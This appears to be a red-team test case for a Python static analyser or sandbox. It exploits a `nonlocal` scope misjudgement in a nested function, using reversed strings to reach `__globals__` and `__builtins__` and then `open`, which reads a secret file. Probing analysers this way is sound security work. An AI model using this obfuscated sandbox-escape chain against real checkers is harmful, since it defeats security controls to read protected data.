# family: red team, round 15 (scopes: nonlocal, name mangling, class bodies, global in blocks, getattr tables)
# Chain: `nonlocal k` in a doubly nested function binds the OUTER function's k at run time,
# but scopes.Scope.binding_scope puts the binding in the immediate parent function (middle).
# So outer's k looks like it only iterates ("name",) and getattr(f, k) is judged as f.name,
# while inner() rewrites it to "__globals__" (built by reversing a harmless made-up dunder).
# From __globals__ -> __builtins__ -> open -> read /tmp/r15/work/secret.txt.
def helper():
    return 1

def rev(s):
    return "".join(reversed(s))

def outer():
    out = []
    for k in ("name",):
        def middle():
            def inner():
                nonlocal k
                k = rev("__slabolg__")
            inner()
        middle()
        out.append(getattr(helper, k))
    return out

g = outer()[0]
b = g[rev("__snitliub__")]
b = b if isinstance(b, dict) else {n: getattr(b, n) for n in ("open",)}
print(sorted(g.keys())[:6])
print(b[rev("nepo")]("/tmp/r15/work/secret.txt").read())
